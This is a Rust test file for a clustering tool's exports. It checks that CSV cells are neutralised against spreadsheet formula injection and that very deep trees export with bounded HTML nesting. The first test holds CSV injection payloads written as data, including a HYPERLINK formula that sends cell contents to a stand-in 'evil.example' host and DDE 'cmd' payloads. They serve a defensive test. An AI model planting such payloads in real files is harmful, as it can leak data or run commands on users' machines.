//! Exports of a hostile or extreme collection: a CSV cell a spreadsheet would run as a formula is neutralised
//! (OWASP's leading quote), numbers stay numbers; and a tree thousands of levels deep (a chain, each split peeling
//! one document) exports as HTML whose elements nest to a bounded depth (Chromium stops nesting at 512 and shows
//! another tree) and as CSV whose size grows with its rows, not with rows times depth.

use std::fmt::Write;
use std::path::{Path, PathBuf};

use pdx::cluster::{RuleSpec, Tree};
use pdx::dataset::Dataset;
use pdx::report;

fn open(path: &Path) -> Dataset {
    pdx::dataset::open(&[path.to_path_buf()], &Default::default(), false)
        .expect("opens")
        .dataset
}

/// A JSON Lines file of `ids`, each document of one of two topics.
fn jsonl(dir: &Path, ids: &[&str]) -> PathBuf {
    let topics = [
        "election minister parliament vote policy budget cabinet",
        "match goal league striker season trophy coach stadium",
    ];
    let mut lines = String::new();
    for (at, id) in ids.iter().enumerate() {
        let line = serde_json::json!({
            "id": id,
            "text": format!("{} {}", topics[at % 2], topics[at % 2]),
        });
        let _ = writeln!(lines, "{line}");
    }
    let path = dir.join("docs.jsonl");
    std::fs::write(&path, lines).expect("write");
    path
}

/// What a spreadsheet runs as a formula: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
    let dir = tempfile::tempdir().expect("temp dir");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let numbers = ["-0.5", "+3", "-12e3"];
    let plain = ["a-1", "report 2024", "x=1"];
    let ids: Vec<&str> = hostile
        .iter()
        .chain(&numbers)
        .chain(&plain)
        .copied()
        .collect();
    let mut dataset = open(&jsonl(dir.path(), &ids));
    // Labels a spreadsheet would run too, for the label column: the hostile texts, a document each in turn.
    dataset.label_names = hostile.iter().map(|text| text.to_string()).collect();
    for (at, document) in dataset.documents.iter_mut().enumerate() {
        document.label = u32::try_from(at % hostile.len()).ok();
    }
    let mut tree = Tree::for_dataset(&dataset);
    let children = tree
        .split(&dataset.matrix, tree.root(), &RuleSpec::default())
        .expect("splits");
    tree.set_name(children[0], Some("=1+1".into()))
        .expect("named");
    tree.set_name(tree.root(), Some("-root".into()))
        .expect("named");
    let csv = report::to_csv(&dataset, &tree, false);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().expect("a header").clone();
    let column = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {headers:?}"))
    };
    let (mut ids_read, mut labels_read) = (Vec::new(), Vec::new());
    for record in reader.records() {
        let record = record.expect("a row");
        for (at, cell) in record.iter().enumerate() {
            assert!(
                !is_formula(cell) || numbers.contains(&cell),
                "column {} holds a live formula: {cell:?}\n{csv}",
                &headers[at]
            );
        }
        for name in ["leaf", "node"] {
            let cell = &record[column(name)];
            assert!(cell.parse::<usize>().is_ok(), "{name} {cell:?}");
        }
        ids_read.push(record[column("id")].to_string());
        labels_read.push(record[column("label")].to_string());
        let name = &record[column("name")];
        assert!(
            name.is_empty() || name == "'=1+1" || !is_formula(name),
            "{name:?}"
        );
    }
    // A neutralised cell is the text with a quote before it: nothing else of it is lost.
    let expected: Vec<String> = hostile
        .iter()
        .map(|id| format!("'{id}"))
        .chain(numbers.iter().chain(&plain).map(|id| id.to_string()))
        .collect();
    assert_eq!(ids_read, expected);
    let labels_expected: Vec<String> = (0..ids_read.len())
        .map(|at| format!("'{}", hostile[at % hostile.len()]))
        .collect();
    assert_eq!(labels_read, labels_expected);
    assert!(csv.contains("'=1+1"), "{csv}");
    assert!(csv.contains("'-root"), "{csv}");
}

/// The deepest nesting of elements in `html`, counted by a tag counter (the page has no `<` but its tags').
fn nesting_depth(html: &str) -> usize {
    const VOID: [&str; 6] = ["meta", "br", "hr", "img", "input", "link"];
    let (mut depth, mut deepest) = (0usize, 0usize);
    for tag in html.split('<').skip(1) {
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        if tag.starts_with('!') || VOID.contains(&name.as_str()) {
            continue;
        }
        if tag.starts_with('/') {
            depth = depth
                .checked_sub(1)
                .expect("a closing tag closes an open one");
        } else {
            depth += 1;
            deepest = deepest.max(depth);
        }
    }
    assert_eq!(depth, 0, "every element is closed");
    deepest
}

/// A word of letters only (tokens of digits are dropped): `prefix` then `n` in base 26.
fn word(prefix: &str, mut n: usize) -> String {
    let mut word = prefix.to_string();
    loop {
        word.push(char::from(b'a' + (n % 26) as u8));
        n /= 26;
        if n == 0 {
            return word;
        }
    }
}

/// The levels of the chain tree.
const LEVELS: usize = 5_000;

/// `LEVELS + 1` documents and a chain-shaped tree over them: each inner node's first child is a leaf of one
/// document, its second the rest. Made as a stored tree is read back (its split records taken from a real split),
/// checked by `Tree::restore`.
fn chain(dir: &Path) -> (Dataset, Tree) {
    let documents = LEVELS + 1;
    let mut lines = String::new();
    for at in 0..documents {
        let text = [
            ("wx", at % 97),
            ("vx", (at * 7) % 89),
            ("ux", at % 31),
            ("tx", (at / 3) % 53),
        ]
        .map(|(prefix, n)| word(prefix, n))
        .join(" ");
        let line = serde_json::json!({
            "id": format!("d{at}"),
            "text": text,
        });
        let _ = writeln!(lines, "{line}");
    }
    let path = dir.join("chain.jsonl");
    std::fs::write(&path, lines).expect("write");
    let dataset = open(&path);
    assert_eq!(dataset.matrix.cols(), documents, "every document kept");
    let mut split = Tree::for_dataset(&dataset);
    split
        .split(&dataset.matrix, split.root(), &RuleSpec::default())
        .expect("splits");
    let value = serde_json::to_value(&split).expect("a tree as JSON");
    let record = value["nodes"][0]["split"].to_string();
    let norms = value["norms_squared"].to_string();
    let excluded = value["excluded"].to_string();
    let members = |from: usize| {
        let mut text = String::from("[");
        for column in from..documents {
            if column > from {
                text.push(',');
            }
            let _ = write!(text, "{column}");
        }
        text.push(']');
        text
    };
    let mut nodes = Vec::with_capacity(2 * LEVELS + 1);
    for level in 0..=LEVELS {
        let (inner, leaf, next) = (2 * level, 2 * level + 1, 2 * level + 2);
        let parent = match level {
            0 => "null".to_string(),
            _ => (inner - 2).to_string(),
        };
        if level == LEVELS {
            nodes.push(format!(
                r#"{{"id":{inner},"parent":{parent},"children":[],"members":{},"scatter":0.0,"split":null,"name":null}}"#,
                members(level)
            ));
            break;
        }
        nodes.push(format!(
            r#"{{"id":{inner},"parent":{parent},"children":[{leaf},{next}],"members":{},"scatter":1.0,"split":{record},"name":null}}"#,
            members(level)
        ));
        nodes.push(format!(
            r#"{{"id":{leaf},"parent":{inner},"children":[],"members":[{level}],"scatter":0.0,"split":null,"name":null}}"#
        ));
    }
    let json = format!(
        r#"{{"nodes":[{}],"root":0,"norms_squared":{norms},"excluded":{excluded}}}"#,
        nodes.join(",")
    );
    let tree: Tree = serde_json::from_str(&json).expect("a tree");
    let tree = tree.restore(&dataset).expect("a valid tree of the data");
    (dataset, tree)
}

#[test]
fn a_chain_thousands_of_levels_deep_exports_in_bounded_nesting_and_linear_size() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (dataset, tree) = chain(dir.path());
    assert_eq!(tree.leaves().len(), LEVELS + 1);
    let deepest = tree
        .leaves()
        .into_iter()
        .map(|leaf| tree.path_to(leaf).len())
        .max();
    assert_eq!(deepest, Some(LEVELS + 1));

    let html = report::html::to_html(&dataset, &tree, None, false);
    let depth = nesting_depth(&html);
    assert!(depth <= 200, "elements nest {depth} deep");
    // Every node is on the page.
    assert_eq!(
        html.matches("<details class=\"node").count(),
        2 * LEVELS + 1
    );

    let csv = report::to_csv(&dataset, &tree, false);
    let rows = csv.lines().count() - 1;
    assert_eq!(rows, dataset.documents.len());
    let per_row = csv.len() / rows;
    assert!(
        per_row <= 1_500,
        "{per_row} bytes per row ({} in all)",
        csv.len()
    );

    // The Newick text nests as the tree does (its format has no other way); it is written without recursion, on
    // a thread with a worker's stack.
    let newick = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || report::to_newick(&tree))
        .expect("a thread")
        .join()
        .expect("written");
    assert_eq!(newick.matches('(').count(), LEVELS);
}
